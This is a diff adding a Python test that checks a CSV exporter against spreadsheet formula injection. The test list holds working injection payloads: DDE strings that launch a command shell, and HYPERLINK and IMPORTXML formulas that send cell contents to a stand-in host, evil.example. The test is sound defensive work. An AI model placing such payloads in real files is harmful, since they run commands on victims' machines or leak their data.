@@ -52,6 +52,39 @@ def test_no_text_in_csv_is_a_formula(text: str) -> None:
         assert row[0] == "'" + text
 
 
+#: What somebody may write so that a spreadsheet runs it: at the beginning, behind what separates cells elsewhere, behind quotes.
+FORMULAS = [
+    *(f"{sign}1+1" for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", "==", "=-", '"=', "'=")),
+    "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', "-2+3+cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example?",A1:B9),"//a")', "+DDE(\"cmd\";\"/C calc\";\"1\")",
+    "a;=1+1", "a;b;+1", 'a;"=1+1', 'a;""=1+1', "a;'=1", "a;-1+1", "a;@x", "a\n=1+1", "a\r\n=1+1", "a\t=1+1", "a;\0=1", "a;＝1", 'a";=1;"',
+    ";=1", ";;=1", "a,=1;=2", 'x","=1;"=2', "a\n\"=1",
+]  # fmt: skip
+
+
+def test_no_text_is_a_formula_for_commas_or_for_semicolons_and_nothing_of_it_is_lost() -> None:
+    assert len(FORMULAS) >= 30
+    for text in FORMULAS:
+        told = csv_text(sheet((text, 1), (f"x{text}", 2)), "en")
+        (first, _), (second, _) = list(csv.reader(io.StringIO(told, newline="")))[1:]
+        assert (first.replace("'", ""), second.replace("'", "")) == (
+            text.replace("'", ""),
+            f"x{text}".replace("'", ""),
+        )
+        for mark in ",;\t":
+            for line in (
+                told.splitlines() if mark != "," else [told]
+            ):  # where quotes are not seen, a line is a row
+                for row in csv.reader(io.StringIO(line, newline=""), delimiter=mark):
+                    for cell in row[:1] if mark == "," else row:
+                        bare = cell.lstrip("\"'")
+                        assert not re.match(r"[=+\-@＝＋－＠\t\r\n\0]", bare) or cell.startswith("'"), (
+                            text,
+                            mark,
+                            cell,
+                        )
+
+
 def test_numbers_in_csv_stay_numbers_also_below_nothing() -> None:
     rows = ((None, Decimal("-1.0")), ("x", Decimal("0.25")), (timedelta(hours=3, minutes=53), -2), (True, 0))
     told = csv_text(sheet(*rows), "en")
